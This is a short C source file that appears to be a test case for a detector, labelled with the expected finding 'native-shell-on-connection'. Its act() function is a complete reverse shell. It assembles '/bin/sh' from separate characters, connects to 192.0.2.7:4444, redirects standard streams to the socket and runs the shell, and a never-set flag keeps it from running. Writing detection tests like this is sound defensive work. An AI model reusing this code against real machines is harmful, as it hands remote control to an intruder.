/* A shell for whoever answers; its name is put together.
 * expect: native-shell-on-connection
 * flags: -O0
 * flags: -O2
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    volatile char shell[] = {'/', 'b', 'i', 'n', '/', 's', 'h', 0};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
    to.sin_addr.s_addr = inet_addr("192.0.2.7");
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&to, sizeof to) != 0)
        return 1;
    for (int i = 0; i < 3; i++)
        dup2(s, i);
    execl((const char *)shell, "x", (char *)0);
    return 2;
}

int main(void) { return never ? act() : 0; }
